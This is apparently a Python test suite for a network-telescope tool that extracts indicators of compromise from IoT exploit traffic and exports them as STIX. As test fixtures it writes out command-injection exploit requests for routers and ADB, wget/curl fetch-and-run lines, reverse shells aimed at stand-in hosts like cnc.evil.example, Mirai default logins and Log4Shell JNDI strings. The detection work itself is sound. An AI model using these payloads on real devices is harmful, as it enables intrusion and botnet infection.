"""test_indicators.py: indicators of exploits' payloads, from packets to events, against reference_indicators.py: planted payloads in many forms,
real captures, workers, batches, windows, pieces, days; more of them than are kept; what mentions the telescope; merged feeds; STIX.
"""
import base64
import glob
import ipaddress
import json
import os
import random
import sys
import tempfile

import pcap
import reference_indicators as reference
import stix_check
from judge import DATA, ROOT, Verdict, data_is_here, parallel, run
from reference import packets_of
from reference_rules import Payloads
from test_events import bytes_of, ns

S = 10**9
T0 = 1767225600 * S - 3600 * S  # an hour before 2026-01-01T00:00:00Z
TELESCOPE = "198.51.100.0/24,2001:db8:dead::/48"
NETWORKS = [ipaddress.ip_network(n) for n in TELESCOPE.split(",")]
PAYLOADS = Payloads(os.path.join(ROOT, "classify", "rules"))

# Ways to have something fetched; {h} a host, {f} a file.
FETCHES = ("wget http://{h}/{f}", "wget+http://{h}:8080/{f}", "wget%20http%3A%2F%2F{h}%2F{f}", "wget${{IFS}}http://{h}/{f}${{IFS}}-O${{IFS}}/tmp/x",
           "wget -q -O - http://{h}/{f} | sh", "curl -s -o x https://{h}/{f}", "curl --output x.sh http://{h}/d/{f}?q=1", "wget {h}/{f}",
           "busybox tftp -g -l /tmp/a -r {f} {h}", "tftp {h} -c get {f}", "ftpget -v -u anonymous -p anonymous -P 21 {h} l {f}",
           "/bin/busybox wget -g {h} -l /tmp/b -r /{f}", "wget 'http://{h}/{f}'", "wget ftp://u:p@{h}/{f}", "lwp-download http://{h}/{f}",
           "nc {h} 4444 -e /bin/sh", "bash -i >& /dev/tcp/{h}/4444 0>&1", "telnet {h} 23")
# Exploits that carry a command {c}: (protocol, port, payload)
CARRIERS = (
    ("tcp", 80, "GET /shell?cd+/tmp;rm+-rf+*;{c};sh+/tmp/x HTTP/1.1\r\nUser-Agent: x\r\nHost: 127.0.0.1\r\n\r\n"),
    ("tcp", 8080, "POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: {dst}:8080\r\n\r\nXWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`{c}`&ipv=0"),
    ("tcp", 7547, "POST /UD/act?1 HTTP/1.1\r\nHost: {dst}:7547\r\nSOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers\r\n\r\n"
                  "<?xml version=\"1.0\"?><SOAP-ENV:Envelope xmlns:SOAP-ENV=\"http://schemas.xmlsoap.org/soap/envelope/\"><SOAP-ENV:Body>"
                  "<u:SetNTPServers xmlns:u=\"urn:dslforum-org:service:Time:1\"><NewNTPServer1>`cd /tmp;{c};sh x`</NewNTPServer1>"
                  "<NewNTPServer2></NewNTPServer2></u:SetNTPServers></SOAP-ENV:Body></SOAP-ENV:Envelope>"),
    ("tcp", 37215, "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nHost: {dst}:37215\r\nAuthorization: Digest username=\"dslf-config\", realm=\"HuaweiHomeGateway\"\r\n"
                   "\r\n<?xml version=\"1.0\" ?><s:Envelope><s:Body><u:Upgrade><NewStatusURL>$({c} ; sh x)</NewStatusURL>"
                   "<NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>"),
    ("udp", 53413, "AA\0\0AAAA cd /tmp; {c}; sh x\n"),
    ("tcp", 23, "enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox MIRAI; {c}\r\n"),
    ("tcp", 5555, "OPEN" + "X" * 16 + "\xb0\xaf\xba\xb1shell:cd /data/local/tmp; {c}; sh x\0"),
)
LOGINS = (
    ("tcp", 23, "root\r\nxc3511\r\nenable\r\nsystem\r\n/bin/busybox MIRAI\r\n"),
    ("tcp", 2323, "\xff\xfd\x01\xff\xfa\x18\x00xterm\xff\xf0admin\n7ujMko0admin\nenable\n/bin/busybox ECCHI\n"),
    ("tcp", 23, "vizxv\r\n"), ("tcp", 23, "enable\r\nsystem\r\n"),
    ("tcp", 80, "POST /boaform/admin/formLogin HTTP/1.1\r\nHost: {dst}\r\n\r\nusername=admin&psd=Fee%3Afifofum&x=1"),
    ("tcp", 81, "GET /set_ftp.cgi?next_url=ftp.htm&loginuse=root&loginpas=p+w HTTP/1.1\r\n\r\n"),
    ("tcp", 80, "GET /Security/users?auth=YWRtaW46MTEK HTTP/1.1\r\n\r\n"),
    ("tcp", 8080, "GET /shell?cd+/tmp HTTP/1.1\r\nAuthorization: Basic " + base64.b64encode(b"user:\xe9\\pw").decode() + "\r\n\r\n"),
    ("tcp", 80, "GET /?x=${{jndi:ldap://{h}:1389/a}} HTTP/1.1\r\n\r\n"),
    ("tcp", 80, "GET / HTTP/1.1\r\nUser-Agent: ${{jndi:${{lower:l}}${{::-d}}ap://{h}/b}}\r\n\r\n"),
    ("tcp", 80, "GET /?x=%24%7Bjndi%3Armi%3A%2F%2F{h}%2Fc%7D HTTP/1.1\r\n\r\n"),
)
HOSTS = ("203.0.113.7", "203.0.113.8", "Evil.Example", "cnc.evil.example", "3405803785", "0xcb.0.0x71.9", "192.168.1.1", "[2001:db8:77::5]")


def frame(src, dst, proto, port, payload):
    body = payload.encode("latin-1") if isinstance(payload, str) else payload
    number, l4 = (6, pcap.tcp(40000, port, pcap.ACK | pcap.PSH, body=body)) if proto == "tcp" else (17, pcap.udp(40000, port, body))
    is6 = ":" in dst
    return pcap.ether((pcap.ip6 if is6 else pcap.ip4)(src, dst, number, l4), 0x86DD if is6 else 0x0800)


def payload_of(rng, host, dst):
    if rng.random() < 0.25:
        proto, port, text = rng.choice(LOGINS)
        return proto, port, text.format(h=host, dst=dst)
    proto, port, text = rng.choice(CARRIERS)
    return proto, port, text.format(c=rng.choice(FETCHES).format(h=host, f=rng.choice(("x.mips", "bins.sh", "a/b.arm7"))), dst=dst)


def planted(seed, count=1500):
    """Payloads over three dates, from few sources and many."""
    rng, found = random.Random(seed), []
    for i in range(count):
        is6 = rng.random() < 0.1
        dst = f"2001:db8:dead::{rng.randrange(1, 99):x}" if is6 else f"198.51.100.{rng.randrange(1, 250)}"
        src = f"2001:db8:{rng.randrange(9)}::1" if is6 else f"203.0.{rng.randrange(114, 117)}.{rng.randrange(250)}"
        found.append((T0 + i * 60 * S + rng.randrange(S), frame(src, dst, *payload_of(rng, rng.choice(HOSTS), dst))))
    return sorted(found, key=lambda packet: packet[0])


def replay(folder, name, paths, *options):
    feed = os.path.join(folder, name)
    code, out, err = run("replay", "--no-sources", "--events", "indicator", "-o", feed, *options, *paths)
    if code not in (0, 3):
        raise RuntimeError(f"replay: {err}")
    return feed


def told(feed, *options):
    code, out, err = run("events", "--json", "--type", "indicator", *options, feed)
    if code != 0:
        raise RuntimeError(f"events: {err}")
    return [json.loads(line) for line in out.splitlines()]


def row(e):
    i = e["indicator"]
    return (ns(e["first"]) // (86400 * S), i["kind"], i["role"], i["value"])


def compare(v, name, events, expected):
    found = {row(e): e for e in events}
    v.equal(len(found), len(events), f"{name}: an indicator and date twice")
    v.equal(sorted(found.keys() - expected.keys()), [], f"{name}: too many")
    v.equal(sorted(expected.keys() - found.keys()), [], f"{name}: missing")
    for key in found.keys() & expected.keys():
        e, w = found[key], expected[key]
        v.equal((ns(e["first"]), ns(e["last"]), e["packets"], e["bytes"], e["proto"], e["port"], e["indicator"]["rule"], e["address"], e["phase"]),
                (w.first, w.last, w.packets, w.bytes, w.proto, w.port, w.rule, None, "end"), f"{name}: {key}")
        n = e["indicator"]["sources"]
        v.check(n == len(w.sources) if len(w.sources) <= 512 else abs(n / len(w.sources) - 1) < 0.25, f"{name}: {key}: {n} sources of {len(w.sources)}")


def check_planted(v, folder):
    for seed in (1, 2):
        packets = planted(seed)
        path = pcap.write(os.path.join(folder, f"planted{seed}.pcap"), packets)
        expected, withheld = reference.indicators_of(packets_of(path), PAYLOADS, NETWORKS)
        v.check(len(expected) > 100 and {k[1:3] for k in expected} == {("host", "loader"), ("host", "c2"), ("url", "loader"), ("login", "login")},
                "the capture has few indicators")
        v.equal(withheld, 0, "of the planted ones none is to be withheld")
        base = None
        for window in ("60s", "1h", "1s"):
            feed = replay(folder, f"f{seed}{window}", [path], "--telescope", TELESCOPE, "--telescope-id", "t", "--window", window)
            compare(v, f"planted {seed}, windows of {window}", told(feed), expected)
            code, out, err = run("verify", feed)
            v.equal(code, 0, f"verify: {out}{err}")
            base = base or bytes_of(feed)
        for workers, batch in ((1, 1), (2, 1024), (3, 7), (8, 64)):
            other = replay(folder, f"w{seed}{workers}", [path], "--telescope", TELESCOPE, "--telescope-id", "t", "-j", str(workers), "--batch", str(batch))
            v.check(bytes_of(other) == base, f"{workers} workers, batches of {batch}: another feed")
        cuts = [0, 400, 401, 1100, len(packets)]
        pieces = [pcap.write(os.path.join(folder, f"{seed}piece{i}.pcap"), packets[a:b]) for i, (a, b) in enumerate(zip(cuts, cuts[1:]))]
        v.check(bytes_of(replay(folder, f"pieces{seed}", pieces, "--telescope", TELESCOPE, "--telescope-id", "t")) == base, "pieces: another feed")


def check_phases(v, folder):
    """Told as it begins, at most once an hour while more comes, and when its date is over."""
    packets = [(T0 + i * 600 * S, frame(f"203.0.114.{i}", "198.51.100.1", "tcp", 80, CARRIERS[0][2].format(c="wget http://203.0.113.7/m", dst="")))
               for i in range(24)]
    feed = replay(folder, "phases", [pcap.write(os.path.join(folder, "phases.pcap"), packets)])
    events = [e for e in told(feed, "--updates") if e["indicator"]["kind"] == "url"]
    v.equal([(e["phase"], e["update"], e["packets"], e["indicator"]["sources"]) for e in events],
            [("begin", 0, 1, 1), ("end", 1, 6, 6), ("begin", 0, 1, 1), ("goes_on", 1, 7, 7), ("goes_on", 2, 13, 13), ("end", 3, 18, 18)], "phases")
    v.equal(len({e["id"] for e in events}), 2, "ids")


SECRETS = ("198.51.100.9", "198-51-100-9", "198_51_100_9", "9.100.51.198", "3325256713", "0xc6336409", "c6336409", "0964 33c6".replace(" ", ""),
           "0306.063.0144.011", "198.51.25609", "%31%39%38.51.100.9", "198%2e51%2e100%2e9", "MTk4LjUxLjEwMC45", "xjNkCQ", "[::ffff:198.51.100.9]",
           "2001:db8:dead::7", "[2001:db8:dead::7]", "2001-db8-dead--7", "198.51.100.77", "198-51-100-77")


def check_dark(v, folder):
    """However an address of the telescope is written, nothing of it leaves; and it is counted."""
    rng, packets = random.Random(5), []
    places = [f.replace("{f}", "x") for f in FETCHES] + [f.replace("{f}", "{h}").replace("{h}", "203.0.113.7", 1) for f in FETCHES if "{f}" in f]
    for n, (place, secret) in enumerate((p, s) for p in places for s in SECRETS):
        command = place.replace("{h}", secret).replace("${{", "${").replace("}}", "}")
        proto, port, text = CARRIERS[n % len(CARRIERS)]
        packets.append((T0 + n * S, frame("203.0.114.5", "198.51.100.9", proto, port, text.replace("{c}", command).replace("{dst}", "198.51.100.9"))))
    for n, secret in enumerate(SECRETS):
        text = LOGINS[4][2].replace("admin&", f"{secret}&").replace("{dst}", "198.51.100.9")
        packets.append((T0 + (9000 + n) * S, frame("203.0.114.5", "198.51.100.9", "tcp", 80, text)))
        basic = "GET /shell?cd+/tmp HTTP/1.1\r\nAuthorization: Basic " + base64.b64encode(f"a:{secret}".encode()).decode() + "\r\n\r\n"
        packets.append((T0 + (9100 + n) * S, frame("203.0.114.5", "198.51.100.9", "tcp", 8080, basic)))
    rng.shuffle(packets)
    path = pcap.write(os.path.join(folder, "dark.pcap"), sorted(packets))
    feed = replay(folder, "dark", [path], "--telescope", TELESCOPE, "--telescope-id", "t")
    # Of hosts named beside, what is left is harmless: no digit run of the telescope, in no form.
    values = " ".join(e["indicator"]["value"].replace("[", "").replace("]", "") for e in told(feed)).lower()
    v.check("203.0.113.7" in values, "nothing is told at all")
    for secret in (*SECRETS, "198.51.100", "198-51-100", "100.51.198", "db8:dead", "db8-dead", "c63364", "6433c6", "33252567"):
        v.check(secret.strip("[]").lower() not in values, f"{secret} is told")
    code, out, _ = run("replay", "--no-sources", "--json", "--events", "indicator", "-o", os.path.join(folder, "dark2"),
                       "--telescope", TELESCOPE, "--telescope-id", "t", path)
    v.equal(code, 0, "replay --json")
    v.check(json.loads(out)["indicators_withheld"] > 500, "what was withheld is not counted")


def check_bound(v, folder):
    """More indicators than are kept: the same for any workers; those with the most packets stay; the ledger says so."""
    rng, packets = random.Random(9), []
    exploit = CARRIERS[4]
    for i in range(6000):
        name = f"f{rng.randrange(20)}" if i % 3 == 0 else f"r{i}"
        packets.append((T0 + i * S // 10, frame(f"203.0.{i % 200}.9", "198.51.100.3", *exploit[:2],
                                                exploit[2].format(c=f"wget http://203.0.113.7/{name}", dst=""))))
    path = pcap.write(os.path.join(folder, "bound.pcap"), packets)
    feeds = [replay(folder, f"b{j}", [path], "--events.indicators", "200", "-j", str(j), "--batch", str(b)) for j, b in ((1, 1024), (2, 3), (5, 100))]
    v.check(len({bytes_of(f) for f in feeds}) == 1, "beyond the bound, other workers give another feed")
    events = told(feeds[0])
    v.check(any(e["gave_up"] for e in events), "nothing ends early")
    whole = [e for e in events if e["indicator"]["kind"] == "host"]
    v.equal([(e["packets"], e["gave_up"]) for e in whole], [(6000, False)], "the host that all came from")
    v.check(sum(1 for e in told(feeds[0], "--updates")) < 6000 * 3, "more is told than there is")
    code, out, _ = run("verify", "--json", feeds[0])
    v.equal(code, 0, "verify")
    code, out, _ = run("replay", "--no-sources", "--json", "--events", "indicator", "--events.indicators", "200", "-o", os.path.join(folder, "b9"), path)
    v.check(json.loads(out)["ledger"]["given_up"]["events"] > 3000, "the ledger does not say what was given up")


def check_merge(v, folder):
    """Two sensors: events of both; anonymised: none."""
    path = os.path.join(folder, "planted1.pcap")
    feeds = [replay(folder, name, [path], "--sensor", name) for name in ("north", "south")]
    code, _, err = run("merge", *feeds, "-o", os.path.join(folder, "merged"))
    v.equal(code, 0, f"merge: {err}")
    each = [told(f) for f in feeds]
    v.equal(sorted(e["id"] for e in told(os.path.join(folder, "merged"))), sorted(e["id"] for feed in each for e in feed), "merged events")


def check_stix(v, folder):
    feed = os.path.join(folder, "f160s")
    code, out, err = run("events", "--stix", "--type", "indicator", feed)
    v.equal(code, 0, f"stix: {err}")
    bundle = json.loads(out)
    for wrong in stix_check.wrong(bundle):
        v.check(False, f"STIX: {wrong}")
    patterns = {o["pattern"] for o in bundle["objects"] if o["type"] == "indicator"}
    v.check("[url:value = 'http://203.0.113.7/x.mips']" in patterns and "[domain-name:value = 'evil.example']" in patterns
            and "[ipv4-addr:value = '203.0.113.7']" in patterns and "[ipv6-addr:value = '2001:db8:77::5']" in patterns
            and "[user-account:account_login = 'root' AND user-account:credential = 'xc3511']" in patterns
            and "[user-account:credential = 'vizxv']" in patterns
            and "[user-account:account_login = 'user' AND user-account:credential = '\\\\xe9\\\\pw']" in patterns, f"patterns: {sorted(patterns)}")
    v.check(not any("192.168." in p for p in patterns), "a private address to be shared")
    v.check(not any("hxxp" in p or "[." in p for p in patterns), "a pattern that is defanged")
    first = {(i["kind"], i["role"], i["value"]) for i in (e["indicator"] for e in told(feed)) if "192[.]168" not in i["value"]}
    v.equal(len([o for o in bundle["objects"] if o["type"] == "indicator"]), len(first), "indicators, one of several dates each")


def check_capture(v, folder, path):
    name = os.path.basename(path)
    expected, _ = reference.indicators_of(packets_of(path), PAYLOADS)
    compare(v, name, told(replay(folder, name, [path])), expected)
    return len(expected)


def check_synth(v, folder):
    """What `synth` makes: few payloads from some sources, over several dates."""
    os.mkdir(os.path.join(folder, "synth"))
    path = os.path.join(folder, "synth", "days.pcap")
    code, _, err = run("synth", "-o", path, "--profile", "days")
    v.equal(code, 0, f"synth: {err}")
    v.check(check_capture(v, folder, path) >= 6, "few indicators in what synth makes")


def main():
    v = Verdict()
    with tempfile.TemporaryDirectory() as folder:
        check_planted(v, folder)
        check_phases(v, folder)
        check_dark(v, folder)
        check_bound(v, folder)
        check_merge(v, folder)
        check_stix(v, folder)
        check_synth(v, folder)
        if data_is_here():
            paths = [p[:-len(".expected.json")] for p in sorted(glob.glob(os.path.join(DATA, "iot-exploit", "*.expected.json")))]
            v.check(sum(parallel(lambda p: check_capture(v, folder, p), paths)) > 8, "few indicators in real captures")
    return v.finish()


if __name__ == "__main__":
    sys.exit(main())
